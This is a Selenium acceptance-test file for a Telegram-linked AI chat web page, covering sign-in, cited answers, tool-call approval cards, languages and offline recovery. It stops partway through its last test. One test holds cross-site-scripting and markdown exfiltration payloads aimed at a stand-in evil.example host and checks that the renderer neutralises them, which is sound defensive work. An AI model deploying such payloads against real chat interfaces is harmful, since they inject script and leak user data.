"""The web chat in a real browser, as somebody uses it who signs in from Telegram."""

import json
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest
from selenium import webdriver
from selenium.common.exceptions import StaleElementReferenceException
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys
from selenium.webdriver.remote.webelement import WebElement

from rich_agent.chat_commands.menu import Menu
from rich_agent.domain.languages import LANGUAGES, RIGHT_TO_LEFT, SUPPORTED_LOCALES
from rich_agent.phrases import say
from tests.acceptance.browsing import (
    OVERFLOWS,
    SCREENSHOTS,
    axe_problems,
    fresh_browser,
    needs_browser,
)
from tests.acceptance.pictures import picture
from tests.acceptance.scripting import calling
from tests.acceptance.test_agui import code_of, hour_at, program
from tests.acceptance.test_commands import command, press, shown
from tests.acceptance.test_my_data import rows_naming
from tests.acceptance.world import World, wait_until
from tests.needed_features import need_feature

pytestmark = list(needs_browser)

QUESTION = "What is proof of history?"


def sign_in_link(world: World, user: int, locale: str = "en", **fields: str) -> str:
    """The link with a code that /web gives, in the language of the user.

    Tests that need it are skipped where the web chat is taken out.
    """
    need_feature("web_chat")
    message = command(world, user, "/web", **fields)
    chat = press(world, user, message, say(locale, "web_chat-command-link"))
    url, *_ = [
        button["url"]
        for row in shown(chat, message["message_id"])["buttons"]
        for button in row
        if "url" in button
    ]
    return str(url)


@dataclass(slots=True)
class Chat:
    """The page of one user, signed in by a link."""

    browser: webdriver.Chrome
    world: World
    user: int

    def open(self) -> None:
        """Sign in."""
        self.browser.get(sign_in_link(self.world, self.user))
        self.await_shown("#composer")

    def all(self, selector: str) -> list[WebElement]:
        """Every element that is there."""
        return self.browser.find_elements(By.CSS_SELECTOR, selector)

    def await_shown(self, selector: str, holds: str = "") -> WebElement:
        """The last such element that is shown and holds a text, once there is one."""

        def found() -> WebElement | None:
            try:
                fit = [one for one in self.all(selector) if one.is_displayed()]
                return fit[-1] if fit and holds in fit[-1].text else None
            except StaleElementReferenceException:
                return None

        return wait_until(found, f"{selector} shows {holds!r}")

    def send(self, text: str) -> None:
        """Write and press Enter."""
        self.browser.find_element(By.ID, "composer").send_keys(text, Keys.ENTER)

    def await_over(self) -> None:
        """Return once nothing is being written."""
        self.await_shown("#send")

    def screenshot(self, name: str) -> None:
        """At both widths and in both schemes, kept where RICH_AGENT_SCREENSHOTS says."""
        if not SCREENSHOTS:
            return
        for scheme in ("light", "dark"):
            media = {"features": [{"name": "prefers-color-scheme", "value": scheme}]}
            self.browser.execute_cdp_cmd("Emulation.setEmulatedMedia", media)
            for width, height in ((1280, 900), (390, 844)):
                self.resize(width, height)
                self.browser.save_screenshot(
                    str(Path(SCREENSHOTS) / f"web-{name}-{width}-{scheme}.png")
                )
        self.browser.execute_cdp_cmd("Emulation.setEmulatedMedia", {"features": []})
        self.resize(1280, 900)

    def resize(self, width: int, height: int) -> None:
        """Also narrower than a window can be."""
        size = {"width": width, "height": height, "deviceScaleFactor": 1, "mobile": False}
        self.browser.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", size)

    def serious(self) -> list[str]:
        """The problems that axe finds, of any impact."""
        return axe_problems(self.browser)


@pytest.fixture
def chat(browser: webdriver.Chrome, world: World, user: int) -> Chat:
    """The page of a user who has just signed in."""
    page = Chat(browser, world, user)
    page.open()
    return page


def test_link_of_telegram_signs_in_once(chat: Chat, world: World, user: int) -> None:
    """The code leaves the address, is kept nowhere, and opens no second browser."""
    link = sign_in_link(world, user)
    code = link.partition("#login=")[2]
    assert code.startswith("rac_")
    with fresh_browser("--lang=en") as other:
        second = Chat(other, world, user)
        other.get(link)
        second.await_shown("#composer")
        assert other.current_url == world.environment["PUBLIC_URL"] + "/chat"
        assert other.execute_script("return document.cookie") == ""
        assert code not in str(set(rows_naming(world, code)) - {"telegram_inbox"})
        chat.await_shown("#sign-out").click()
        chat.await_shown("#sign-in", "/web")
        chat.browser.get(link)
        chat.await_shown("#sign-in-error", "used")
        message = command(world, user, "/web")
        assert "Where you are signed in" in message["text"]
        press(world, user, message, "✕ 1")
        other.refresh()
        second.await_shown("#sign-in")


def test_question_is_answered_with_sources_that_open(chat: Chat) -> None:
    """The answer grows; a marker and the list lead to the passage; the keyboard suffices."""
    assert chat.serious() == []
    assert not chat.browser.find_element(By.ID, "record").is_displayed(), "nothing hears"
    chat.screenshot("empty")
    chat.send(QUESTION)
    chat.await_shown(".sources")
    chat.await_over()
    links = [one.get_attribute("href") or "" for one in chat.all(".answer a.cite")]
    assert links
    assert all("/library/solana/proof-of-history" in link for link in links)
    listed = [one.get_attribute("href") for one in chat.all(".sources a")]
    assert links[0] in listed
    assert "#" in links[0]
    for link in chat.all(".answer a"):
        assert link.get_attribute("target") == "_blank"
        assert "noopener" in (link.get_attribute("rel") or "")
    assert QUESTION in chat.await_shown(".asked").text
    spoken = chat.browser.find_element(By.ID, "announcer").get_attribute("textContent") or ""
    assert spoken.startswith("Answer: ")
    assert chat.browser.switch_to.active_element.get_attribute("id") == "composer"
    assert chat.serious() == []
    chat.screenshot("answer")
    chat.resize(390, 844)
    assert chat.browser.execute_script(OVERFLOWS) is False
    dark = {"features": [{"name": "prefers-color-scheme", "value": "dark"}]}
    chat.browser.execute_cdp_cmd("Emulation.setEmulatedMedia", dark)
    assert chat.serious() == []


@pytest.mark.feature("agenda")
def test_commands_are_listed_after_a_slash(chat: Chat) -> None:
    """Commands that work here, in the menu's order; arrows, Tab, Enter and Escape suffice."""
    composer = chat.browser.find_element(By.ID, "composer")
    composer.send_keys("/")
    chat.await_shown("#commands li")
    listed = [one.text.split("\n") for one in chat.all("#commands li")]
    of_the_core = [[f"/{name}", about] for name, about in Menu().describe_elsewhere("en")]
    assert [one for one in listed if one in of_the_core] == of_the_core
    assert listed.index(of_the_core[-1]) == len(listed) - 1
    assert chat.serious() == []
    chat.screenshot("commands")
    composer.send_keys(Keys.ARROW_DOWN)
    chosen = chat.await_shown("#commands [aria-selected=true]", "/help")
    assert composer.get_attribute("aria-activedescendant") == chosen.get_attribute("id")
    composer.send_keys("tas")
    assert [one.text.split("\n")[0] for one in chat.all("#commands li")] == ["/tasks"]
    composer.send_keys(Keys.ESCAPE)
    assert not chat.all("#commands li")
    composer.send_keys(Keys.BACKSPACE, Keys.TAB)
    assert composer.get_attribute("value") == "/tasks "
    composer.send_keys(Keys.BACKSPACE * 3, Keys.ENTER)
    assert chat.await_shown(".asked p").text == "/tasks"
    chat.await_shown(".answer .text")
    chat.await_over()


def test_new_conversation_suggests_questions(chat: Chat) -> None:
    """A press asks; a conversation in which something was said suggests nothing."""
    first, *subjects = [one.text for one in _suggestions(chat)]
    assert first == say("en", "web_chat-abilities")
    assert len(subjects) == 3
    assert chat.serious() == []
    chat.all("#suggestions button")[1].click()
    assert chat.await_shown(".asked p").text == subjects[0]
    chat.await_shown(".sources")
    chat.await_over()
    assert not chat.all("#suggestions")[0].is_displayed()
    chat.await_shown("#new-thread").click()
    assert [one.text for one in _suggestions(chat)] == [first, *subjects]


def _suggestions(chat: Chat) -> list[WebElement]:
    chat.await_shown("#suggestions button")
    return chat.all("#suggestions button")


@pytest.mark.feature("reminder")
def test_call_that_a_question_took_the_place_of_is_not_shown(chat: Chat) -> None:
    """Without a time zone the first call is never made: the one after the answer is alone."""
    chat.send("remind me tomorrow at 8 to call mum")
    chat.await_shown(".card", "In which city")
    assert not chat.all("details.tool")
    chat.send("Reykjavik")  # its day is that of UTC
    chat.await_shown(".answer .text", "Reminder: Call mum")
    chat.await_over()
    assert len(chat.all("details.tool.done")) == len(chat.all("details.tool")) == 1


def test_page_speaks_what_its_user_turns_out_to_speak(chat: Chat) -> None:
    """The first words tell the language; what stands on the page already follows."""
    placeholder = chat.all("#composer")[0].get_attribute("placeholder")
    assert placeholder == say("en", "web_chat-placeholder")
    chat.send("Was ist Proof of History und wie funktioniert es?")
    chat.await_shown(".tools", say("de", "why-button"))
    assert say("en", "why-button") not in chat.await_shown("#turns").text
    placeholder = chat.all("#composer")[0].get_attribute("placeholder")
    assert placeholder == say("de", "web_chat-placeholder")


def test_page_speaks_the_language_of_telegram_at_first(
    browser: webdriver.Chrome, world: World, user: int
) -> None:
    """The language that nothing else tells; one that we do not speak leaves the browser's."""
    for code, expected in (("de", "de"), ("sv", "en")):
        page = Chat(browser, world, user if code == "de" else user + 50_000)
        command(world, page.user, "/start", language_code=code)
        link = sign_in_link(world, page.user, expected, language_code=code)
        browser.get(link)
        page.await_shown("#composer")
        assert browser.find_element(By.TAG_NAME, "html").get_attribute("lang") == expected
        page.await_shown("#sign-out").click()
        page.await_shown("#sign-in")


def test_history_holds_what_was_written_in_telegram(chat: Chat, world: World, user: int) -> None:
    """One conversation: the page shows Telegram's turns with their sources, and the reverse."""
    world.ask(user, QUESTION)
    chat.browser.refresh()
    asked = chat.await_shown(".asked p")
    assert asked.text == QUESTION
    assert any("proof-of-history" in (one.get_attribute("href") or "") for one in chat.all(".cite"))
    chat.send("hi")
    chat.await_shown(".answer", "Ask me anything")
    chat.await_over()
    rows = world.rows(
        "SELECT thread_id, count(*) AS n FROM messages JOIN conversations c ON c.id = "
        "conversation_id WHERE messages.user_id = %s GROUP BY thread_id",
        user,
    )
    assert rows == [{"thread_id": f"tg:{user}", "n": 4}]


_RENDER = """
const [text, done] = arguments;
import(new URL("chat/markdown.js", document.baseURI)).then(({ render }) => {
  const shown = document.createElement("div");
  shown.append(render(text, [], ["https://example.org/a*b*c"]));
  done([shown.textContent.trim(), shown.innerHTML]);
});
"""


def test_texts_of_a_model_are_shown_letter_for_letter(chat: Chat) -> None:
    """Products and addresses keep their marks; footnotes and raised letters are written out."""
    written = {
        "2*3*4 = 24 and 2**10, 3**2": "2*3*4 = 24 and 2**10, 3**2",
        "At https://example.org/a_b/__init__.py": "At https://example.org/a_b/__init__.py",
        "[a](https://example.org/a*b*c)": "a",
        "H<sub>2</sub>O, m<sup>3</sup>, <b>b</b>": "H2O, m3, <b>b</b>",
        "\\boxed{42}, and *so*": "42, and so",
        "A fact.[^1]\n\n[^1]: https://example.org": "A fact.¹\n¹ https://example.org",
        "`2*3*4 \\boxed{1} [^1]`": "2*3*4 \\boxed{1} [^1]",
    }
    shown = {text: chat.browser.execute_async_script(_RENDER, text) for text in written}
    assert {text: said for text, (said, _) in shown.items()} == written
    tagged = "".join(html for _, html in shown.values())
    assert "H<sub>2</sub>O, m<sup>3</sup>" in tagged
    assert "<em>so</em>" in tagged
    assert 'href="https://example.org/a*b*c"' in tagged


def test_reload_in_the_middle_of_an_answer_goes_on(chat: Chat, world: World) -> None:
    """The run is joined; its model is called once, and its words come once."""
    before = world.sandbox.mark()
    slow = {"containing": '"stream":true', "delay_s": 6.0}
    world.sandbox.fail("openai", "slow", **slow)
    chat.send("How is funding paid on perpetual futures?")
    chat.await_shown(".answer .text")
    chat.browser.refresh()
    chat.await_shown(".asked", "How is funding paid")
    chat.await_shown("#stop")
    chat.await_shown(".sources")
    chat.await_over()
    assert len(chat.all(".turn")) == 1
    streams = [one for one in world.sandbox.calls("openai", before) if one["body"].get("stream")]
    assert len(streams) == 1
    text = chat.await_shown(".answer").text
    chat.browser.refresh()
    chat.await_shown(".sources")
    assert chat.await_shown(".answer").text == text


def test_end_of_an_answer_stays_in_sight_unless_the_reader_scrolled_up(
    chat: Chat, world: World, user: int
) -> None:
    """However much comes at once; who reads further up is left there."""
    long = "\n\n".join(f"Paragraph {number}." for number in range(60))
    world.sandbox.script(wish(user), long)
    chat.send(wish(user))
    chat.await_shown(".copy")
    wait_until(lambda: from_end(chat) < 5 or None, "the end is in sight")
    world.sandbox.script(wish(user), long)
    world.sandbox.fail("openai", "slow", containing='"stream":true', delay_s=4.0)
    chat.send(wish(user))
    wait_until(lambda: len(chat.all(".turn:last-child .text p")) > 3 or None, "it is written")
    chat.browser.execute_script("document.getElementById('scroll').scrollTop = 0")
    wait_until(lambda: chat.all(".turn:last-child .copy") or None, "it is complete")
    assert from_end(chat) > 1_000


def from_end(chat: Chat) -> int:
    """The number of pixels of the conversation below what is shown."""
    return int(
        chat.browser.execute_script(
            "const {scrollHeight, scrollTop, clientHeight} = document.getElementById('scroll');"
            "return scrollHeight - scrollTop - clientHeight;"
        )
    )


def test_escape_stops_an_answer_and_retry_asks_again(chat: Chat, world: World) -> None:
    """The words already written stay; the button asks the same question once more."""
    world.sandbox.fail("openai", "slow", containing='"stream":true', delay_s=30.0)
    chat.send("How is funding paid on perpetual futures?")
    chat.await_shown(".answer .text")
    chat.browser.find_element(By.ID, "composer").send_keys(Keys.ESCAPE)
    chat.await_shown(".note", "Stopped.")
    chat.await_over()
    world.sandbox.recover()
    (retry,) = [one for one in chat.all(".tools button") if one.text == "Try again"]
    retry.click()
    chat.await_shown(".sources")
    chat.await_over()
    assert len(chat.all(".turn")) == 1


def wish(user: int) -> str:
    """The request of a user, in words that only their requests hold."""
    return f"Add the tasks of list {user}"


@pytest.mark.feature("agenda")
def test_changes_wait_for_approval_on_a_card(chat: Chat, world: World, user: int) -> None:
    """Nothing is done before; the card survives a reload; calls fold."""
    calls = [calling("create_task", title="Bread"), calling("create_task", title="Salt")]
    world.sandbox.script(wish(user), {"calls": calls}, "Both are on your list.")
    chat.send(wish(user))
    chat.await_shown(".card", "Shall I?")
    assert chat.serious() == []
    chat.screenshot("approval")
    chat.browser.refresh()
    card = chat.await_shown(".card", "Salt")
    assert chat.browser.switch_to.active_element.text == "Approve"
    titles = "SELECT title FROM tasks WHERE user_id = %s ORDER BY title"
    assert world.rows(titles, user) == []
    card.find_element(By.CSS_SELECTOR, ".primary").click()
    chat.await_shown(".answer .text", "Both are on your list.")
    chat.await_over()
    assert [row["title"] for row in world.rows(titles, user)] == ["Bread", "Salt"]
    folded, _ = chat.all("details.tool")
    assert folded.find_element(By.CSS_SELECTOR, "summary .brief").text == "Bread"
    assert folded.get_attribute("open") is None
    folded.find_element(By.TAG_NAME, "summary").click()
    assert "Bread" in folded.text
    assert chat.serious() == []
    chat.screenshot("tools")


@pytest.mark.feature("agenda")
def test_list_is_a_card_that_changes_in_its_place(chat: Chat, world: World, user: int) -> None:
    """With the keyboard: done, taken back; each once, though the page is asked twice."""
    for title in ("Bread", "Salt"):
        world.rows("INSERT INTO tasks (user_id, title) VALUES (%s, %s) RETURNING id", user, title)
    done = "SELECT title FROM tasks WHERE user_id = %s AND status = 'done'"
    chat.send("/tasks")
    card = chat.await_shown(".living", "Salt")
    assert chat.serious() == []
    chat.screenshot("tasks")
    card.find_element(By.CSS_SELECTOR, "li button").send_keys(Keys.ENTER)
    row = chat.await_shown(".living li.done")
    (ticked,) = world.rows(done, user)
    assert ticked["title"] in row.text
    assert ticked["title"] in card.find_element(By.CSS_SELECTOR, "[role=status]").text
    chat.browser.switch_to.active_element.send_keys(Keys.ENTER)
    wait_until(lambda: not world.rows(done, user) or None, "it is taken back")
    wait_until(lambda: not chat.all(".living li.done") or None, "the card says so")
    assert chat.serious() == []


@pytest.mark.feature("agenda", "day_picture")
def test_picture_that_a_card_offers_comes_below_it(chat: Chat, world: World, user: int) -> None:
    """And stays while other buttons are pressed; nobody else gets it."""
    world.rows(
        "INSERT INTO tasks (user_id, title, due_date) VALUES (%s, 'Bread', now()) RETURNING id",
        user,
    )
    world.rows(
        "INSERT INTO schedule_blocks (user_id, starts_at, ends_at, title)"
        " SELECT %s, day + '9 hours', day + '10 hours', 'Write'"
        " FROM date_trunc('day', now() AT TIME ZONE 'UTC') AS day RETURNING id",
        user,
    )
    chat.send("/today")
    card = chat.await_shown(".living", "Write")
    chat.await_over()
    card.find_element(By.CSS_SELECTOR, ".living > .keys button").click()
    drawn = chat.await_shown(".living img")
    await_loaded(chat, drawn)
    assert drawn.get_attribute("alt") == card.find_element(By.CSS_SELECTOR, "[role=status]").text
    card.find_element(By.CSS_SELECTOR, "li button").click()
    chat.await_shown(".living li.done", "Bread")
    await_loaded(chat, chat.await_shown(".living img"))
    assert chat.serious() == []
    chat.screenshot("today")
    with program(world, user) as own, program(world, user + 50_000) as other:
        url = str(drawn.get_attribute("src"))
        assert own.get(url).content.startswith(b"\x89PNG")
        assert code_of(other.get(url)) == (404, "unknown_picture")


PRESS_TOGETHER = """
const [first, second] = document.querySelectorAll(arguments[0]);
const [one, other] = [first, second].map((row) => [...row.querySelectorAll("button")]);
const pressed = [one[0], other[0], one.at(-1)];
for (const button of pressed) button.click();
return pressed.map((button) => button.getAttribute("aria-disabled"));
"""
"""Ticks two tasks, and deletes the first: by then, its row has no button for that."""


@pytest.mark.feature("agenda")
def test_presses_are_done_one_after_the_other(chat: Chat, world: World, user: int) -> None:
    """Each button is marked until its turn is over; one that is gone by then does nothing."""
    for title in ("Bread", "Salt"):
        world.rows("INSERT INTO tasks (user_id, title) VALUES (%s, %s) RETURNING id", user, title)
    chat.send("/tasks")
    chat.await_shown(".living", "Salt")
    assert chat.browser.execute_script(PRESS_TOGETHER, ".living li") == ["true"] * 3
    assert chat.serious() == []
    wait_until(lambda: len(chat.all(".living li.done")) == 2 or None, "both are done")
    wait_until(lambda: not chat.all(".living [aria-disabled]") or None, "nothing waits")
    tasks = "SELECT status, deleted_at FROM tasks WHERE user_id = %s"
    assert world.rows(tasks, user) == [{"status": "done", "deleted_at": None}] * 2


@pytest.mark.feature("agenda")
def test_call_grows_on_the_page(chat: Chat, world: World, user: int) -> None:
    """Its arguments are read as far as the model has written them."""
    world.sandbox.fail("openai", "slow", containing='"stream":true', delay_s=15.0)
    chat.send("Add a task: buy bread and butter and honey for the long breakfast on Sunday morning")
    # Elements are replaced while the call grows.
    shown = "return document.querySelector('details.tool .brief')?.textContent || null"
    growing = wait_until(lambda: chat.browser.execute_script(shown), "a part of the arguments")
    world.sandbox.recover()
    chat.await_over()
    (title,) = world.rows("SELECT title FROM tasks WHERE user_id = %s", user)
    whole = chat.browser.execute_script(shown)
    assert whole.startswith(title["title"])
    assert len(growing) < len(whole)
    assert whole.startswith(growing)


@pytest.mark.feature("agenda")
def test_refused_changes_are_not_done(chat: Chat, world: World, user: int) -> None:
    """The card says so, and nothing has changed."""
    calls = [calling("create_task", title="Bread"), calling("create_task", title="Salt")]
    world.sandbox.script(wish(user), {"calls": calls})
    chat.send(wish(user))
    chat.await_shown(".card .secondary").click()
    chat.await_shown(".card.done", "Refused")
    chat.await_over()
    assert world.rows("SELECT title FROM tasks WHERE user_id = %s", user) == []


def field(chat: Chat, name: str) -> WebElement:
    """The shown field of a card with this label."""
    wait_until(lambda: [one for one in chat.all(".field") if one.is_displayed()], "the fields")
    (found,) = [
        one.find_element(By.CSS_SELECTOR, "input, select, textarea")
        for one in chat.all(".field")
        if one.is_displayed() and one.find_element(By.TAG_NAME, "label").text == name
    ]
    return found


@pytest.mark.feature("agenda")
def test_arguments_are_edited_and_single_calls_refused_on_a_card(
    chat: Chat, world: World, user: int
) -> None:
    """By the tool's own schema; what was done is taken back with Undo, also after a reload."""
    calls = [calling("create_task", title=one, estimated_minutes=5) for one in ("Bread", "Salt")]
    world.sandbox.script(wish(user), {"calls": calls}, "It is on your list.")
    chat.send(wish(user))
    chat.await_shown(".card", "Shall I?")
    keep, refuse = chat.all(".card input[type=checkbox]")
    assert keep.is_selected()
    refuse.click()
    chat.all(".card .edit summary")[0].click()
    title = field(chat, "Title")
    title.clear()
    title.send_keys("Rye bread")
    minutes = field(chat, "Minutes it takes")
    minutes.clear()
    minutes.send_keys("1.5")
    assert chat.serious() == []
    chat.screenshot("editing")
    chat.browser.find_element(By.CSS_SELECTOR, ".card .primary").click()
    chat.await_shown(".field .failure", "This cannot be read.")
    minutes.clear()
    minutes.send_keys("15")
    chat.browser.find_element(By.CSS_SELECTOR, ".card .primary").click()
    chat.await_shown(".undo", "Undo")
    chat.await_over()
    made, denied = chat.all("details.tool summary")
    assert "Rye bread" in made.text
    assert "not done" in denied.text
    query = (
        "SELECT title, estimated_minutes AS minutes FROM tasks "
        "WHERE user_id = %s AND deleted_at IS NULL"
    )
    assert world.rows(query, user) == [{"title": "Rye bread", "minutes": 15}]
    chat.browser.refresh()
    chat.await_shown(".undo", "Undo").click()
    chat.await_shown(".note", "Removed the task “Rye bread”.")
    assert chat.all(".undo") == []
    assert world.rows(query, user) == []
    assert chat.serious() == []
    chat.screenshot("undone")


def await_loaded(chat: Chat, picture: WebElement) -> None:
    """Return once a picture is there, and not broken."""
    is_there = "return arguments[0].complete && arguments[0].naturalWidth > 0"
    wait_until(lambda: chat.browser.execute_script(is_there, picture) or None, "the picture")


def threads_of(chat: Chat) -> list[tuple[str, bool]]:
    """The conversations in the list, and whether each is the one that is shown.

    Read at once, since the page draws the list anew at each change.
    """
    rows = chat.browser.execute_script(
        "return [...document.querySelectorAll('.thread')]"
        ".map((one) => [one.innerText, one.ariaCurrent])"
    )
    return [(text.partition("\n")[0], current == "true") for text, current in rows]


def choose(chat: Chat, title: str) -> None:
    """Press a conversation in the list."""
    next(one for one in chat.all(".thread") if one.text.startswith(title)).click()


def test_conversations_are_begun_listed_and_chosen(chat: Chat, world: World, user: int) -> None:
    """A new one knows nothing of the main one, stays after a reload, and an answer goes on."""
    chat.send("hi there")
    chat.await_shown(".answer .copy")
    chat.await_shown("#new-thread", "New conversation").click()
    wait_until(lambda: not chat.all(".turn"), "an empty conversation")
    chat.send(QUESTION)
    chat.await_shown(".answer .copy")
    own = [("Telegram", False), (QUESTION, True)]
    wait_until(lambda: threads_of(chat) == own, "the list")
    assert chat.serious() == []
    chat.browser.refresh()
    chat.await_shown(".asked", QUESTION)
    wait_until(lambda: threads_of(chat) == own, "the list after a reload")
    world.sandbox.fail("openai", "slow", containing='"stream":true', delay_s=3.0)
    chat.send("What is impermanent loss?")
    choose(chat, "Telegram")
    chat.await_shown(".asked", "hi there")
    assert len(chat.all(".turn")) == 1
    chat.await_shown("#send")
    choose(chat, QUESTION)
    chat.await_shown(".asked", "What is impermanent loss?")
    wait_until(lambda: len(chat.all(".answer .copy")) == 2, "both answers")
    threads = world.rows("SELECT thread_id FROM conversations WHERE user_id = %s", user)
    assert len(threads) == 2
    chat.screenshot("conversations")


def test_conversations_are_in_a_drawer_on_a_phone(chat: Chat) -> None:
    """It closes with Escape and when one is chosen, and nothing is wider than the screen."""
    chat.send(QUESTION)
    chat.await_shown(".answer .copy")
    chat.resize(390, 844)
    assert not chat.all("#threads")[0].is_displayed()
    chat.await_shown("#open-threads").click()
    chat.await_shown("#new-thread")
    assert chat.serious() == []
    if SCREENSHOTS:
        chat.browser.save_screenshot(str(Path(SCREENSHOTS) / "web-drawer-390.png"))
    chat.browser.switch_to.active_element.send_keys(Keys.ESCAPE)
    wait_until(lambda: not chat.all("#threads")[0].is_displayed(), "the drawer is closed")
    chat.await_shown("#open-threads").click()
    chat.await_shown("#new-thread").click()
    wait_until(lambda: not chat.all("#threads")[0].is_displayed(), "the drawer is closed")
    assert chat.all(".turn") == []
    width = chat.browser.execute_script("return document.documentElement.scrollWidth")
    assert width == 390


def test_picture_is_uploaded_and_asked_about(
    chat: Chat, world: World, user: int, tmp_path: Path
) -> None:
    """The bot asks back if no question came with it; what is written next answers it."""
    file = tmp_path / "chart.png"
    file.write_bytes(picture("orange", "navy"))
    chat.browser.find_element(By.ID, "files").send_keys(str(file))
    chat.await_shown("#attached img")
    chat.browser.find_element(By.ID, "send").click()
    chat.await_shown(".card", "A question for you")
    assert chat.serious() == []
    chat.screenshot("question")
    chat.send("Which colours are in it?")
    chat.await_shown(".answer .text")
    chat.await_over()
    assert chat.await_shown(".asked img").get_attribute("alt") == "Attached image: chart.png"
    images = world.rows("SELECT sha256 FROM vision_senders WHERE thread_id = %s", f"tg:{user}")
    assert len(images) == 1
    chat.browser.refresh()
    shown = chat.await_shown(".asked img")
    assert shown.get_attribute("alt") == "Image"
    await_loaded(chat, shown)


def test_file_is_named_where_it_was_sent(chat: Chat, tmp_path: Path) -> None:
    """Below its name stands the question, and again after a reload."""
    file = tmp_path / "prices.csv"
    file.write_text("ticket,price\nadult,14\nchild,6\n")
    chat.browser.find_element(By.ID, "files").send_keys(str(file))
    chat.await_shown("#attached .file", "prices.csv")
    chat.send("What does a child pay?")
    for _ in range(2):
        chat.await_shown(".answer .copy")
        assert chat.await_shown(".asked .file").text == "prices.csv"
        chat.browser.refresh()
    chat.await_shown(".asked .file")
    chat.screenshot("file")


def test_day_that_was_planned_comes_as_a_picture(chat: Chat, world: World, user: int) -> None:
    """Below the answer, and again after a reload."""
    calls = [hour_at("09:00"), hour_at("11:00")]
    world.sandbox.script(wish(user), {"calls": calls}, "It is planned.")
    chat.send(wish(user))
    chat.await_shown(".card .primary").click()
    for _ in range(2):
        drawn = chat.await_shown(".answer img")
        assert drawn.get_attribute("alt") == "The schedule of Monday, January 5, 2099 as a picture"
        await_loaded(chat, drawn)
        chat.browser.refresh()
    chat.await_shown(".answer img")
    chat.screenshot("day")
    assert chat.serious() == []


HOSTILE = (
    "Look <script>window.hacked = 1</script><img src=x onerror='window.hacked = 2'> "
    "![pixel](https://evil.example/p.png?q=secret) [click](javascript:window.hacked=3) "
    "[prize](https://evil.example/prize) <a href='https://evil.example/x'>x</a> "
    "<iframe src='https://evil.example'></iframe> **bold**"
)


def test_hostile_markdown_stays_text(chat: Chat, world: World, user: int) -> None:
    """No script, no foreign image, no link that is neither a source nor the user's own."""
    world.sandbox.script(wish(user), f"{HOSTILE} https://mine.example/page")
    chat.send(f"{wish(user)} from https://mine.example/page")
    chat.await_shown(".answer .text strong", "bold")
    chat.await_over()
    assert chat.browser.execute_script("return window.hacked ?? null") is None
    assert chat.all(".answer img, .answer script, .answer iframe") == []
    links = [one.get_attribute("href") for one in chat.all(".answer a")]
    assert set(links) <= {"https://mine.example/page"}
    urls = chat.browser.execute_script(
        "return performance.getEntriesByType('resource').map((one) => one.name)"
    )
    home = world.environment["PUBLIC_URL"]
    assert [url for url in urls if not url.startswith((home, "data:"))] == []
    chat.browser.refresh()
    chat.await_shown(".answer strong", "bold")
    assert chat.browser.execute_script("return window.hacked ?? null") is None


def test_connection_that_breaks_is_taken_up_again(chat: Chat, world: World) -> None:
    """The page says that it is offline, and goes on where it was."""
    world.sandbox.fail("openai", "slow", containing='"stream":true', delay_s=8.0)
    chat.send("How is funding paid on perpetual futures?")
    chat.await_shown(".answer .text")
    network: dict[str, Any] = {"latency": 0, "downloadThroughput": -1, "uploadThroughput": -1}
    chat.browser.execute_cdp_cmd("Network.enable", {})
    offline = {**network, "offline": True}
    chat.browser.execute_cdp_cmd("Network.emulateNetworkConditions", offline)
    chat.await_shown("#connection", "You are offline")
    online = {**network, "offline": False}
    chat.browser.execute_cdp_cmd("Network.emulateNetworkConditions", online)
    chat.await_shown(".sources")
    chat.await_over()
    assert chat.browser.find_element(By.ID, "connection").text == ""
    assert len(chat.all(".turn")) == 1


@pytest.mark.feature("agenda")
def test_press_outlives_its_connection(chat: Chat, world: World, user: int) -> None:
    """The page says that it is offline; afterwards the card shows what was done."""
    world.rows("INSERT INTO tasks (user_id, title) VALUES (%s, 'Bread') RETURNING id", user)
    chat.send("/tasks")
    card = chat.await_shown(".living", "Bread")
    chat.await_over()
    network: dict[str, Any] = {"latency": 0, "downloadThroughput": -1, "uploadThroughput": -1}
    chat.browser.execute_cdp_cmd("Network.enable", {})
    offline = {**network, "offline": True}
    chat.browser.execute_cdp_cmd("Network.emulateNetworkConditions", offline)
    card.find_element(By.CSS_SELECTOR, "li button").click()
    chat.await_shown("#connection", "You are offline")
    assert card.find_element(By.CSS_SELECTOR, "[role=status]").text == ""
    online = {**network, "offline": False}
    chat.browser.execute_cdp_cmd("Network.emulateNetworkConditions", online)
    chat.await_shown(".living li.done", "Bread")
    assert "Bread" in card.find_element(By.CSS_SELECTOR, "[role=status]").text


@pytest.mark.parametrize(
    ("locale", "question"),
    [("ja", "プルーフ・オブ・ヒストリーとは何ですか？"), ("ar", "ما هو proof of history؟")],
)
def test_page_speaks_the_language_of_the_account(
    world: World, user: int, locale: str, question: str
) -> None:
    """The choice made with /language comes before the browser's."""
    with fresh_browser("--lang=en") as opened:
        page = Chat(opened, world, user)
        menu = command(world, user, "/language")
        press(world, user, menu, LANGUAGES[locale])
        message = command(world, user, "/web")
        chat = press(world, user, message, say(locale, "web_chat-command-link"))
        ((button,), *_) = shown(chat, message["message_id"])["buttons"]
        opened.get(button["url"])
        page.await_shown("#composer")
        placeholder = page.all("#composer")[0].get_attribute("placeholder")
        assert placeholder == say(locale, "web_chat-placeholder")
        root = opened.find_element(By.TAG_NAME, "html")
        direction = "rtl" if locale in RIGHT_TO_LEFT else "ltr"
        assert (root.get_attribute("lang"), root.get_attribute("dir")) == (locale, direction)
        page.send(question)
        page.await_shown(".answer .text")
        page.await_over()
        assert page.serious() == []
        page.screenshot(f"language-{locale}")


@pytest.mark.parametrize("locale", SUPPORTED_LOCALES)
def test_page_has_words_in_every_language(world: World, locale: str) -> None:
    """Before anybody is known, the browser's first language that is spoken counts."""
    home = world.environment["PUBLIC_URL"]
    with httpx.Client(trust_env=False) as http:
        answer = http.get(f"{home}/chat/words", headers={"Accept-Language": f"eo,{locale};q=0.9"})
    told = answer.json()
    assert told["language"] == locale
    assert told["words"]["web_chat-sign-in-how"] == say(locale, "web_chat-sign-in-how")
    assert "Accept-Language" in answer.headers["vary"]


def test_first_load_is_small_and_cannot_run_what_is_foreign(world: World) -> None:
    """Everything that is fetched, compressed, is under 150 kB; each answer has its policy."""
    home = world.environment["PUBLIC_URL"]
    sizes, policies = {}, set()
    with fresh_browser() as opened:
        opened.get(f"{home}/chat")
        wait_until(lambda: opened.find_element(By.ID, "sign-in").is_displayed() or None, "sign in")
        urls = opened.execute_script(
            "return performance.getEntriesByType('resource').map((one) => one.name)"
        )
    with httpx.Client(trust_env=False, headers={"Accept-Encoding": "gzip"}) as http:
